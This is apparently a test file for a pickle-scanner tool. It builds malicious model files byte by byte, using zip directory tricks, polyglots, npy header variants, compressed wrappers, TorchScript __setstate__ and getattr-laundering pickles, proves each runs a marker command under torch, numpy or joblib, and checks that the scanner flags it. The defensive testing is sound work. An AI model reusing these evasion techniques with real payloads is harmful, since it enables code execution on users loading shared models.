#!/usr/bin/python3
"""`scan` sees every pickle a loader would run: one hostile file per published way past pickle scanners.

Each file is built here byte by byte (zip and tar headers, npy headers, compressed wrappers, pickles).
Before a file is scanned its payload is proven real where a loader here runs it: a child
/usr/bin/python3 (3.11, torch 1.13, numpy 1.24, joblib 1.2) loads it the way a victim would —
torch.load, torch.jit.load, numpy.load(allow_pickle=True), joblib.load, pickle.load, gzip.open — in a
scratch directory, and the payload (`os.system("touch MARK")`, or a TorchScript `__setstate__` that
torch.save's to MARK) makes the marker appear there. All proofs run in one child (torch is imported
once). Then `scan --json` must exit 1 with the findings named (by global, or by kind for what has no
global), the JSON must match docs/schema/scan.schema.json, and the marker must not appear. Where no
loader here runs a file (a difference between two readers, a flag torch refuses) the proof is None
and the scan is still asserted.

Groups: zip directory tricks (CVE-2025-1944 local names, CVE-2025-1945 flag bits, CVE-2025-10156
CRCs, two end records, duplicate and case-folded names, a short entry count, an npz after
`PK\\x05\\x06`); polyglots (pickle+zip, tar+pickle, torch < 0.4's tar, a tar link); nested archives
and npz members; npy header spellings numpy accepts; compressed wrappers (gzip, zlib, bz2, xz,
lzma-alone, two gzip members, 7z); pickles that start without PROTO (CVE-2025-10155's bare .pt);
files torch writes (TorchScript whose `__setstate__` writes a file, pickles inside uint8 tensors);
`scan DIR` and `scan -`. A safetensors+pickle polyglot is not here: a safetensors header is JSON,
so every byte of a pickle inside it must be printable UTF-8, and a pickle made only of such bytes
cannot set protocol 4 (PROTO's argument is a control byte) nor push a string shorter than 32
characters (every string opcode's length is a byte), so it cannot name a global that runs anything.

Usage: test_scan_parity.py --tool PATH --work DIR
"""
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import time
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from test_repair import schema_problems, suite_main  # noqa: E402

PY = "/usr/bin/python3"
MARK = "MARK"
TOUCH = "touch " + MARK


# --- pickles by hand: test_scan_classes.py's opcode builders -------------------------------------------
from test_scan_classes import by, call, g, os_system, p, s, sb, zip_of  # noqa: E402


def benign_like(pkl):
    """A harmless pickle (one string) exactly as long as `pkl`."""
    return p(s("x" * (len(pkl) - 8)))


SHELL = os_system()
P0_SHELL = b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR."  # protocol 0: printable, no PROTO


# --- zip by hand ----------------------------------------------------------------------------------
class Member:
    """One zip member: its directory name, data and the fields a trick edits (flags, CRC, the local
    header's own name, DEFLATE)."""

    def __init__(self, name, data, flags=0, crc=None, local_name=None, deflate=False):
        self.name = name.encode()
        self.local_name = (name if local_name is None else local_name).encode()
        self.data, self.flags, self.method = data, flags, 8 if deflate else 0
        self.crc = zlib.crc32(data) if crc is None else crc
        if deflate:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            self.raw = c.compress(data) + c.flush()
        else:
            self.raw = data


def local_header(m):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, m.flags, m.method, 0, 0, m.crc, len(m.raw), len(m.data),
                       len(m.local_name), 0) + m.local_name + m.raw


def central_header(m, offset):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, m.flags, m.method, 0, 0, m.crc, len(m.raw),
                       len(m.data), len(m.name), 0, 0, 0, 0, 0, offset) + m.name


def end_record(count, cd_size, cd_offset, comment=b""):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, len(comment)) + comment


def zip_bytes(members, count=None):
    """Local headers, the directory, the end record (`count` entries, the real number unless given)."""
    out, cd = bytearray(), b""
    for m in members:
        cd += central_header(m, len(out))
        out += local_header(m)
    at = len(out)
    return bytes(out + cd + end_record(len(members) if count is None else count, len(cd), at))


def version(root="archive"):
    return Member(root + "/version", b"3\n")


def torch_zip(pkl, *extra):
    """What torch.load needs of a torch.save archive: archive/data.pkl and archive/version."""
    return zip_bytes([Member("archive/data.pkl", pkl), version()] + list(extra))


def crc_mismatch():
    """CVE-2025-10156: a harmless data.pkl zipped, then its bytes replaced (the CRC-32 left as it was)."""
    data = bytearray(torch_zip(benign_like(SHELL)))
    at = data.index(b"archive/data.pkl") + len("archive/data.pkl")
    data[at:at + len(SHELL)] = SHELL
    return bytes(data)


def two_end_records(bad, good):
    """A benign archive whose end record's comment holds a second directory and a second end record.
    Both readers take the last end record; torch (miniz) reads the directory where it points, Python's
    zipfile the one right before it (offsets shifted by the bytes it thinks were prepended), so torch
    runs `bad` and zipfile sees `good`."""
    mal = [Member("archive/data.pkl", bad), version()]
    ben = [Member("archive/data.pkl", good), version()]
    size = sum(46 + len(m.name) for m in mal)
    out, mal_at, ben_at = bytearray(), [], []
    for m in mal:
        mal_at.append(len(out))
        out += local_header(m)
    out += b"\0" * max(0, 2 * size + 22 - len(out))  # the benign copies' shifted offsets stay >= 0
    for m in ben:
        ben_at.append(len(out))
        out += local_header(m)
    cd_mal = len(out)
    out += b"".join(central_header(m, o) for m, o in zip(mal, mal_at))
    cd_ben = len(out)
    out += b"".join(central_header(m, o) for m, o in zip(ben, ben_at))
    shift = len(out) + 22 - cd_mal  # zipfile: second end record - its size - its offset
    comment = b"".join(central_header(m, o - shift) for m, o in zip(ben, ben_at)) + end_record(2, size, cd_mal)
    return bytes(out + end_record(2, size, cd_ben, comment))


# --- tar by hand ----------------------------------------------------------------------------------
def tar_header(name, size, kind=b"0", link=b""):
    """A ustar header; `name` is the 100-byte field's bytes as given (a pickle fits)."""
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"%011o\0" % 0
    h[148:156] = b" " * 8
    h[156:157] = kind
    h[157:157 + len(link)] = link
    h[257:265] = b"ustar\x0000"
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def tar_bytes(members):
    """members: (name bytes, data) or (name bytes, b"", kind, link)."""
    out = b""
    for name, data, *link in members:
        out += tar_header(name, len(data), *link) + data + b"\0" * (-len(data) % 512)
    return out + b"\0" * 1024


def legacy_tar(pkl):
    """torch < 0.4's tar as torch.load 1.13 still reads it: storages (0, then no views), tensors (0), pickle."""
    return tar_bytes([(b"storages", pickle.dumps(0, 2) + pickle.dumps([], 2)), (b"tensors", pickle.dumps(0, 2)),
                      (b"pickle", pkl)])


# --- npy by hand ----------------------------------------------------------------------------------
def npy(header, data, ver=(1, 0)):
    """An .npy whose header is the dict's text as given, padded with spaces and a newline to 64 bytes."""
    size = "<H" if ver == (1, 0) else "<I"
    h = header.encode("utf-8" if ver == (3, 0) else "latin1")
    h += b" " * (-(8 + struct.calcsize(size) + len(h) + 1) % 64) + b"\n"
    return b"\x93NUMPY" + bytes(ver) + struct.pack(size, len(h)) + h + data


NPY_PAYLOAD = os_system(proto=3)


def npy_object(descr="'|O'", tail=""):
    return npy("{'descr': %s, 'fortran_order': False, 'shape': (1,), }%s" % (descr, tail), NPY_PAYLOAD)


# --- how each loader is run (snippets exec'd by the prover with `path` set) -----------------------
TORCH_LOAD = "import torch; torch.load(path)"
TORCH_WEIGHTS_ONLY = "import torch; torch.load(path, weights_only=True)"
JIT_LOAD = "import torch; torch.jit.load(path)"
PICKLE_LOAD = "import pickle; pickle.load(open(path, 'rb'))"
NPY_LOAD = "import numpy; numpy.load(path, allow_pickle=True)"
NPZ_LOAD = "import numpy\nz = numpy.load(path, allow_pickle=True)\nfor k in z.files: z[k]"
JOBLIB_LOAD = "import joblib; joblib.load(path)"
GZIP_PICKLE = "import gzip, pickle; pickle.load(gzip.open(path))"
NESTED_TORCH = "import io, torch, zipfile; torch.load(io.BytesIO(zipfile.ZipFile(path).read('model.pt')))"
EXTRA_STATE = ("import pickle, torch\nsd = torch.load(path)\n"
               "pickle.loads(sd['layer._extra_state'].numpy().tobytes())")


# --- the cases: (name, file name, bytes, must find {(severity, global or kind)}, proof or None) -----
# A proof is a loader snippet, or a tuple of them (each must run the payload on its own).
def zip_cases():
    harmless = pickle.dumps({"w": 1}, protocol=2)
    flagged = [("zip: flag bit 0x%x on a member torch never reads (CVE-2025-1945)" % bit, "flag%x.pt" % bit,
                torch_zip(harmless, Member("archive/extra.pkl", SHELL, flags=bit)), {("dangerous", "os.system")}, None)
               for bit in (0x1, 0x20, 0x40)]
    return [
        ("zip: local header name differs from the directory's (CVE-2025-1944)", "localname.pt",
         zip_bytes([Member("archive/data.pkl", SHELL, local_name="archive/datX.pkl"), version()]),
         {("dangerous", "os.system"), ("dangerous", "zip_confusion")}, TORCH_LOAD),
    ] + flagged + [
        ("zip: CRC-32 that does not match (CVE-2025-10156)", "crc.pt", crc_mismatch(), {("dangerous", "os.system")}, TORCH_LOAD),
        ("zip: a second end record in the first one's comment", "two_ends.pt", two_end_records(SHELL, benign_like(SHELL)),
         {("dangerous", "os.system"), ("dangerous", "zip_confusion")}, TORCH_LOAD),
        ("zip: two members named archive/data.pkl", "duplicate.pt",
         zip_bytes([Member("archive/data.pkl", SHELL), Member("archive/data.pkl", harmless), version()]),
         {("dangerous", "os.system"), ("dangerous", "zip_confusion")}, TORCH_LOAD),
        ("zip: archive/DATA.PKL, found by torch ignoring case", "upper.pt",
         zip_bytes([Member("archive/DATA.PKL", SHELL), version()]), {("dangerous", "os.system")}, TORCH_LOAD),
        ("zip: end record counts fewer entries than the directory holds", "count.pt",
         zip_bytes([Member("archive/data.pkl", SHELL), version(), Member("archive/data.pkl", harmless)], count=2),
         {("dangerous", "os.system"), ("dangerous", "zip_confusion")}, TORCH_LOAD),
        ("npz after PK\\x05\\x06 and junk (numpy.load takes it, zipfile shifts offsets)", "prefixed.npz",
         b"PK\x05\x06" + b"junk" * 5 + zip_of([("arr_0.npy", npy_object())]), {("dangerous", "os.system")}, NPZ_LOAD),
    ]


def polyglot_cases(work):
    link_target = os.path.join(work, "link_target.pkl")  # what torch.load reads through the tar link
    with open(link_target, "wb") as f:
        f.write(SHELL)
    harmless = pickle.dumps({"w": 1}, protocol=2)
    return [
        ("pickle + zip: a pickle with a benign torch zip behind it", "pickle_zip.pt", SHELL + torch_zip(harmless),
         {("dangerous", "polyglot"), ("dangerous", "os.system")}, TORCH_LOAD),
        ("tar + pickle: the first header's name field is a pickle", "tar_pickle.tar",
         tar_bytes([(P0_SHELL, b"")])[:-1024] + legacy_tar(harmless),
         {("dangerous", "polyglot"), ("dangerous", "os.system")}, (PICKLE_LOAD, NPY_LOAD)),
        ("torch < 0.4 tar whose pickle member runs a command", "legacy.tar", legacy_tar(SHELL),
         {("dangerous", "os.system")}, TORCH_LOAD),
        ("tar whose storages member is a symbolic link", "tar_link.tar",
         tar_bytes([(b"storages", b"", b"2", link_target.encode()), (b"tensors", pickle.dumps(0, 2)), (b"pickle", harmless)]),
         {("dangerous", "tar_link")}, TORCH_LOAD),
    ]


def nested_cases():
    return [
        ("a torch.save zip stored inside a zip", "outer.zip", zip_of([("model.pt", torch_zip(SHELL))]),
         {("dangerous", "os.system")}, NESTED_TORCH),
        ("npz member, object array, DEFLATE", "deflated.npz", zip_of([("arr_0.npy", npy_object())], zipfile.ZIP_DEFLATED),
         {("dangerous", "os.system")}, NPZ_LOAD),
        ("npz member whose name does not end in .npy", "config.npz", zip_of([("config", npy_object())]),
         {("dangerous", "os.system")}, "import numpy; numpy.load(path, allow_pickle=True)['config']"),
    ]


def npy_cases():
    want = {("dangerous", "os.system")}
    spellings = [
        ("descr in double quotes", npy('{"descr": "|O", "fortran_order": False, "shape": (1,), }', NPY_PAYLOAD)),
        ("descr as '\\x4f'", npy_object(r"'\x4f'")),
        ("descr as 'O' '' (implicit concatenation)", npy_object("'O' ''")),
        ("descr as u'O'", npy_object("u'O'")),
        ("descr as 'object'", npy_object("'object'")),
        ("descr as a comma string 'i4,O'", npy_object("'i4,O'")),
        ("descr as a structured list [('a', 'O')]", npy_object("[('a', 'O')]")),
        ("descr as a subarray ('O', (2,))", npy_object("('O', (2,))")),
        ("a header with a # comment", npy_object(tail="  # {'descr': '<f4'}")),
        ("a header with a backslash-newline", npy("{'descr': '|O', \\\n'fortran_order': False, 'shape': (1,), }", NPY_PAYLOAD)),
        ("version 2.0 header", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", NPY_PAYLOAD, (2, 0))),
        ("version 3.0 header (UTF-8)", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }  # \u00e9t\u00e9", NPY_PAYLOAD, (3, 0))),
    ]
    return [("npy: " + name, "h%02d.npy" % k, data, want, NPY_LOAD) for k, (name, data) in enumerate(spellings)]


def wrapper_cases():
    want = {("dangerous", "os.system")}
    return [
        ("gzip", "model.pkl.gz", gzip.compress(SHELL), want, (JOBLIB_LOAD, GZIP_PICKLE)),
        ("zlib (joblib's .z)", "model.pkl.z", zlib.compress(SHELL), want, JOBLIB_LOAD),
        ("bz2", "model.pkl.bz2", bz2.compress(SHELL), want, JOBLIB_LOAD),
        ("xz", "model.pkl.xz", lzma.compress(SHELL), want, JOBLIB_LOAD),
        ("lzma-alone", "model.pkl.lzma", lzma.compress(SHELL, format=lzma.FORMAT_ALONE), want, JOBLIB_LOAD),
        # joblib 1.2 loops forever on a second gzip member: gzip.open reads both.
        ("gzip of two members, the payload in the second", "two.pkl.gz",
         gzip.compress(SHELL[:2]) + gzip.compress(SHELL[2:]), want, GZIP_PICKLE),
        # A pickle that decompresses its payload itself and hands it to pickle.loads.
        ("pickle.loads(bz2.decompress(…)) inside the pickle", "self_bz2.pkl",
         p(call(g("pickle", "loads"), call(g("bz2", "decompress"), by(bz2.compress(SHELL))))),
         want | {("dangerous", "pickle.loads")}, PICKLE_LOAD),
        ("pickle.loads(lzma.decompress(…)) inside the pickle", "self_lzma.pkl",
         p(call(g("pickle", "loads"), call(g("lzma", "decompress"), by(lzma.compress(SHELL))))),
         want | {("dangerous", "pickle.loads")}, PICKLE_LOAD),
        ("pickle.loads(gzip.decompress(…)) inside the pickle", "self_gzip.pkl",
         p(call(g("pickle", "loads"), call(g("gzip", "decompress"), by(gzip.compress(SHELL))))),
         want | {("dangerous", "pickle.loads")}, PICKLE_LOAD),
        ("7z (opaque)", "model.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00\x04" + bytes(range(64)), {("unknown", "opaque_wrapper")}, None),
    ]


def start_cases():
    want = {("dangerous", "os.system")}
    no_proto = sb("os") + sb("system") + b"\x93" + sb(TOUCH) + b"\x85R."
    return [
        ("protocol 4 without PROTO: SHORT_BINUNICODE, STACK_GLOBAL", "noproto.pkl", no_proto, want, (TORCH_LOAD, PICKLE_LOAD)),
        ("a pickle that starts with FRAME", "frame.pkl", b"\x95" + struct.pack("<Q", len(no_proto)) + no_proto, want,
         (TORCH_LOAD, PICKLE_LOAD)),
        ("a .pt that is a bare pickle (CVE-2025-10155)", "bare.pt", SHELL, want, (TORCH_LOAD, PICKLE_LOAD)),
    ]


def torch_written_cases(made):
    return [
        ("TorchScript whose __setstate__ calls torch.save", "ts_setstate.pt", made["ts_setstate.pt"],
         {("dangerous", "torchscript_op")}, (JIT_LOAD, TORCH_WEIGHTS_ONLY)),
        ("a pickle in a uint8 _extra_state tensor", "extra_state.pt", made["extra_state.pt"],
         {("dangerous", "os.system")}, EXTRA_STATE),
    ]


# --- found by red-teaming the scanner (each was exit 0 or 2 while its loader ran it) ------------------
def getattr_laundered():
    """One real bound method makes getattr look benign; getattr is then handed to map(), which calls it:
    next(map(getattr, [len], ['__self__'])) is the builtins module, its eval runs the payload."""
    ga, nx, mp = g("builtins", "getattr"), g("builtins", "next"), g("builtins", "map")
    lst = lambda *i: b"(" + b"".join(i) + b"l"  # noqa: E731
    legit = call(ga, call(g("torch.nn.modules.linear", "Identity")), s("forward")) + b"0"
    bmod = call(nx, call(mp, ga, lst(g("builtins", "len")), lst(s("__self__"))))
    ev = call(nx, call(mp, ga, lst(bmod), lst(s("eval"))))
    run = call(nx, call(mp, ev, lst(s("__import__('os').system(%r)" % TOUCH))))
    return b"\x80\x02" + legit + run + b"."


def lzma_small_dictionary():
    """lzma-alone with a 256-byte dictionary: joblib knows it by 5d 00 alone."""
    raw = lzma.compress(SHELL, format=lzma.FORMAT_ALONE,
                        filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096, "lc": 3, "lp": 0, "pb": 2}])
    return raw[:1] + struct.pack("<I", 0x100) + raw[5:]


def zfile(pad):
    """joblib's old ZF header, its length read by int(field, 16): blanks and a sign pass."""
    field = ((pad if pad != " " else "") + ("+" if pad == " " else "") + format(len(SHELL), "x")).ljust(19, pad)
    return b"ZF" + field.encode() + zlib.compress(SHELL)


def tar_tensor_type():
    """torch < 0.4's tar whose storage type is torch.DoubleTensor (torch 1.13 reads its .dtype); the
    storage_views pickle after the raw bytes carries the payload."""
    st = io.BytesIO()
    st.write(pickle.dumps(1, protocol=2))
    st.write(b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nDoubleTensor\nt.")
    st.write(struct.pack("<q", 2) + b"\0" * 16)
    st.write(g("os", "system") + b"(S" + repr(TOUCH).encode() + b"\ntR0].")
    return tar_bytes([(b"storages", st.getvalue()), (b"tensors", pickle.dumps(0, protocol=2)), (b"pickle", pickle.dumps({"a": 1}, protocol=2))])


def joblib_dtype_code():
    """A NumpyArrayWrapper of dtype 'f' (4 bytes an item): joblib steps over its 8 raw bytes, which
    open a BINBYTES that would swallow the payload for a reader that does not."""
    hidden = g("os", "system") + b"(" + s(TOUCH) + b"tR"
    raw = b"B" + struct.pack("<I", 3 + len(hidden)) + b"\0\0\0"
    dtype = (g("numpy", "dtype") + b"(" + s("f") + b"\x89\x88tR(K\x03" + s("<") +
             b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
    state = (b"}(" + s("subclass") + g("numpy", "ndarray") + s("shape") + b"K\x02\x85" + s("order") + s("C") +
             s("dtype") + dtype + s("allow_mmap") + b"\x88u")
    return b"\x80\x02" + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + raw + hidden + b"0."


def ts_variant(archive, rename=None, edit=None):
    """The TorchScript archive again, its code/__torch__.py edited or renamed (debug pickles dropped:
    their source ranges would no longer match)."""
    src, out = zipfile.ZipFile(io.BytesIO(archive)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith(".debug_pkl"):
                continue
            name = info.filename
            if name.endswith("code/__torch__.py"):
                if edit:
                    data = edit(data)
                if rename:
                    name, data = rename(name), b"# scripted\n" + data
            z.writestr(name, data)
    return out.getvalue()


def redteam_cases(made):
    want = {("dangerous", "os.system")}
    rows = [
        ("getattr handed to map() after one bound method", "laundered.pkl", getattr_laundered(),
         {("dangerous", "builtins.getattr")}, PICKLE_LOAD),
        ("lzma-alone with a 256-byte dictionary (joblib)", "small_dict.lzma", lzma_small_dictionary(), want, JOBLIB_LOAD),
        ("joblib ZF whose length field holds tabs", "zf_tab.pkl", zfile("\t"), want, JOBLIB_LOAD),
        ("joblib ZF whose length field holds a sign", "zf_plus.pkl", zfile(" "), want, JOBLIB_LOAD),
        ("torch < 0.4 tar whose storage type is a tensor type", "tensor_type.tar", tar_tensor_type(), want, TORCH_LOAD),
        ("joblib array of dtype 'f'", "dtype_f.joblib", joblib_dtype_code(), want, JOBLIB_LOAD),
    ]
    ts = made.get("ts_setstate.pt")
    if ts:
        wrap = lambda d: d.replace(b'torch.save((state)[0], "MARK")', b'_0 = (torch.\n      save\n      ((state)[0], "MARK"))')  # noqa: E731
        rows += [
            ("TorchScript call split by newlines inside brackets", "ts_newline.pt", ts_variant(ts, edit=wrap),
             {("dangerous", "torchscript_op")}, JIT_LOAD),
            ("TorchScript code member named .PY", "ts_upper_ext.pt", ts_variant(ts, rename=lambda n: n[:-3] + ".PY"),
             {("dangerous", "torchscript_op")}, JIT_LOAD),
            ("TorchScript code folder named Code/", "ts_upper_dir.pt", ts_variant(ts, rename=lambda n: n.replace("/code/", "/Code/")),
             {("dangerous", "torchscript_op")}, JIT_LOAD),
        ]
    return rows


# --- files torch writes (a child, as a user's script would) ----------------------------------------
MAKE = r'''
import pickle, sys, torch
from typing import Tuple
out, payload = sys.argv[1], bytes.fromhex(sys.argv[2])


class Marker(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.ones(2))

    def forward(self, x):
        return x * self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.training = state[1]
        torch.save(state[0], "MARK")


torch.jit.script(Marker()).save(out + "/ts_setstate.pt")
torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.ReLU())).save(out + "/ts_clean.pt")
q = torch.ao.quantization.quantize_dynamic(torch.nn.Sequential(torch.nn.Linear(4, 4)), {torch.nn.Linear}, dtype=torch.qint8)
torch.jit.script(q).save(out + "/ts_quantized.pt")
for name, blob in (("extra_state.pt", payload), ("extra_state_clean.pt", pickle.dumps({"a": 1}))):
    torch.save({"layer.weight": torch.ones(2), "layer._extra_state": torch.frombuffer(bytearray(blob), dtype=torch.uint8)},
               out + "/" + name)
torch.save({"w": torch.ones(3)}, out + "/clean.pt")
'''


def make_with_torch(s_):
    out = s_.path("made")
    os.makedirs(out)
    script = os.path.join(out, "make.py")
    with open(script, "w") as f:
        f.write(MAKE)
    r = subprocess.run([PY, script, out, SHELL.hex()], cwd=out, capture_output=True, text=True, timeout=120)
    s_.check(r.returncode == 0, "torch could not write the files: %s" % r.stderr[-2000:])
    made = {}
    for name in os.listdir(out):
        with open(os.path.join(out, name), "rb") as f:
            made[name] = f.read()
    return made


# --- proving, in one child -------------------------------------------------------------------------
PROVE = r'''
import json, os, signal, sys, traceback


def alarm(*_):
    raise TimeoutError("the loader took longer than 20 s")


signal.signal(signal.SIGALRM, alarm)
out = []
for cwd, path, code in json.load(sys.stdin):
    os.chdir(cwd)
    signal.alarm(20)
    try:
        exec(code, {"path": path, "__name__": "prove"})
        out.append("")
    except BaseException:
        out.append(traceback.format_exc().strip().splitlines()[-1])
    signal.alarm(0)
print(json.dumps(out))
'''


class Case:
    def __init__(self, directory, row):
        self.name, fname, self.data, self.want, prove = row
        self.dir = directory
        self.path = os.path.join(directory, fname)
        codes = () if prove is None else (prove,) if isinstance(prove, str) else prove
        self.proofs = [(code, os.path.join(directory, "run%d" % k)) for k, code in enumerate(codes)]
        self.outcome = []  # the loader's last line of error, "" when it returned


def lay_out(s_, group, rows):
    """One directory per case: the file, and a run directory per loader (its cwd, where MARK appears)."""
    cases = []
    for k, row in enumerate(rows):
        c = Case(s_.path(os.path.join(group, "%02d" % k)), row)
        os.makedirs(c.dir)
        with open(c.path, "wb") as f:
            f.write(c.data)
        for _, run in c.proofs:
            os.makedirs(run)
        cases.append(c)
    return cases


def prove_all(s_, groups):
    jobs = [(c, run, code) for cases in groups.values() for c in cases for code, run in c.proofs]
    start = time.time()
    r = subprocess.run([PY, "-c", PROVE], input=json.dumps([(run, c.path, code) for c, run, code in jobs]),
                       capture_output=True, text=True, timeout=300)
    outcomes = json.loads(r.stdout) if r.returncode == 0 and r.stdout.strip() else []
    s_.check(len(outcomes) == len(jobs), "the prover failed: %s" % r.stderr[-2000:])
    for (c, _, _), o in zip(jobs, outcomes):
        c.outcome.append(o)
    print("proofs: %d loads in %.1f s" % (len(jobs), time.time() - start))


def scan_json(s_, *args, **kw):
    r = subprocess.run([s_.tool, "scan", "--json"] + list(args), capture_output=True, text=True, **kw)
    try:
        j = json.loads(r.stdout) if r.stdout.strip() else None
    except ValueError:
        j = None
    return r.returncode, j or {"files": [], "errors": []}, r.stderr, j is not None


def found(j):
    out = set()
    for f in j["files"]:
        for x in f["findings"]:
            out.add((x["severity"], x["kind"]))
            if x["global"]:
                out.add((x["severity"], x["global"]))
    return out


def markers(directory):
    return [os.path.join(d, MARK) for d, _, files in os.walk(directory) if MARK in files]


def check_cases(s_, cases):
    for c in cases:
        for (code, run), outcome in zip(c.proofs, c.outcome):
            s_.check(os.path.exists(os.path.join(run, MARK)),
                     "%s: the payload is not real for `%s` (no marker; the loader said: %s)" % (c.name, code.splitlines()[-1], outcome or "nothing"))
        for m in markers(c.dir):
            os.remove(m)
        rc, j, err, parsed = scan_json(s_, c.path, cwd=c.dir)
        got = found(j)
        s_.check(rc == 1 and c.want <= got, "%s: exit %d, want %s in %s %s" % (c.name, rc, sorted(c.want), sorted(got), err.strip()))
        s_.check(parsed and not schema_problems(j), "%s: JSON vs schema: %s" % (c.name, schema_problems(j)[:3] if parsed else "no JSON"))
        text = subprocess.run([s_.tool, "scan", c.path], capture_output=True, text=True, cwd=c.dir)
        s_.check(text.returncode == 1 and ("dangerous" in text.stdout or "unknown" in text.stdout),
                 "%s: text: exit %d %s" % (c.name, text.returncode, (text.stdout + text.stderr).strip()[:400]))
        s_.check(not markers(c.dir), "%s: the marker exists after the scan" % c.name)


# --- the groups ------------------------------------------------------------------------------------
def zipfile_sees(path, name="archive/data.pkl"):
    """What Python's zipfile (picklescan's reader, numpy.load's) hands over for `name`, or why it refuses."""
    try:
        return zipfile.ZipFile(path).read(name)
    except Exception as e:  # noqa: BLE001 (any refusal is the answer)
        return type(e).__name__


def test_zip_tricks(s_, laid):
    check_cases(s_, laid["zip"])
    # The differences are real: where torch ran the payload, Python's zipfile reads no payload or refuses.
    for c in laid["zip"]:
        if ("dangerous", "zip_confusion") in c.want:
            seen = zipfile_sees(c.path)
            s_.check(not isinstance(seen, bytes) or b"system" not in seen, "%s: zipfile reads the payload too: %r" % (c.name, seen))


def test_polyglots(s_, laid):
    check_cases(s_, laid["polyglot"])
    # Each polyglot is the other format too, and that format's reader sees nothing hostile.
    by_file = {os.path.basename(c.path): c.path for c in laid["polyglot"]}
    seen = zipfile_sees(by_file["pickle_zip.pt"])
    s_.check(seen == pickle.dumps({"w": 1}, protocol=2), "pickle + zip: zipfile reads %r" % (seen,))
    with tarfile.open(by_file["tar_pickle.tar"]) as tar:
        names = tar.getnames()
        s_.check(names[1:] == ["storages", "tensors", "pickle"] and b"system" not in tar.extractfile("pickle").read(),
                 "tar + pickle: tarfile lists %s" % names)


def test_nested(s_, laid):
    check_cases(s_, laid["nested"])


def test_npy_headers(s_, laid):
    check_cases(s_, laid["npy"])


def test_wrappers(s_, laid):
    check_cases(s_, laid["wrapper"])


def test_pickle_starts(s_, laid):
    check_cases(s_, laid["start"])


def test_torch_written(s_, laid):
    check_cases(s_, laid["torch"])


def test_clean_parity(s_, made):
    """What torch writes with nothing hostile in it: no findings, exit 0."""
    work = s_.path("clean")
    os.makedirs(work)
    for name, what in (("ts_clean.pt", "a scripted nn.Sequential"), ("ts_quantized.pt", "a scripted dynamically quantized model"),
                       ("extra_state_clean.pt", "an _extra_state tensor holding pickle.dumps({'a': 1})"),
                       ("clean.pt", "a plain state dict")):
        path = os.path.join(work, name)
        with open(path, "wb") as f:
            f.write(made.get(name, b""))
        rc, j, err, parsed = scan_json(s_, path)
        s_.check(rc == 0 and not found(j), "%s: exit %d %s %s" % (what, rc, sorted(found(j)), err.strip()))
        s_.check(parsed and not schema_problems(j), "%s: JSON vs schema: %s" % (what, schema_problems(j)[:3] if parsed else "no JSON"))


def test_folders_and_streams(s_, made):
    work = s_.path("folder")
    os.makedirs(work)
    with open(os.path.join(work, "clean.pt"), "wb") as f:
        f.write(made.get("clean.pt", b""))
    bad = os.path.join(work, "payload.pkl")
    with open(bad, "wb") as f:
        f.write(SHELL)
    rc, j, err, parsed = scan_json(s_, work, cwd=work)
    files = {os.path.basename(f["file"]): f for f in j["files"]}
    s_.check(rc == 1 and "payload.pkl" in files and ("dangerous", "os.system") in found({"files": [files.get("payload.pkl", {"findings": []})]}),
             "scan DIR: exit %d, files %s, findings %s %s" % (rc, sorted(files), sorted(found(j)), err.strip()))
    s_.check("clean.pt" in files and not files["clean.pt"]["findings"] if "clean.pt" in files else False,
             "scan DIR: the clean .pt is reported with no findings: %s" % sorted(files))
    s_.check(parsed and not schema_problems(j), "scan DIR: JSON vs schema: %s" % (schema_problems(j)[:3] if parsed else "no JSON"))
    with open(bad, "rb") as f:
        r = subprocess.run([s_.tool, "scan", "--json", "-"], stdin=f, capture_output=True, text=True, cwd=work)
    try:
        j = json.loads(r.stdout)
    except ValueError:
        j = None
    got = found(j) if j else set()
    s_.check(r.returncode == 1 and ("dangerous", "os.system") in got,
             "scan - (stdin): exit %d, findings %s %s" % (r.returncode, sorted(got), r.stderr.strip()))
    s_.check(j is not None and not schema_problems(j), "scan -: JSON vs schema: %s" % (schema_problems(j)[:3] if j else "no JSON"))
    s_.check(not markers(work), "scan DIR / scan -: a marker appeared")


def main():
    def body(s_, _args):
        start = time.time()
        made = make_with_torch(s_)
        rows = {"zip": zip_cases(), "polyglot": polyglot_cases(s_.work), "nested": nested_cases(), "npy": npy_cases(),
                "wrapper": wrapper_cases(), "start": start_cases(),
                "torch": torch_written_cases(made) if "ts_setstate.pt" in made else [], "redteam": redteam_cases(made)}
        laid = {group: lay_out(s_, group, r) for group, r in rows.items()}
        prove_all(s_, laid)
        test_zip_tricks(s_, laid)
        test_polyglots(s_, laid)
        test_nested(s_, laid)
        test_npy_headers(s_, laid)
        test_wrappers(s_, laid)
        test_pickle_starts(s_, laid)
        test_torch_written(s_, laid)
        check_cases(s_, laid["redteam"])
        test_clean_parity(s_, made)
        test_folders_and_streams(s_, made)
        print("%.1f s" % (time.time() - start))
    return suite_main(body)


if __name__ == "__main__":
    sys.exit(main())
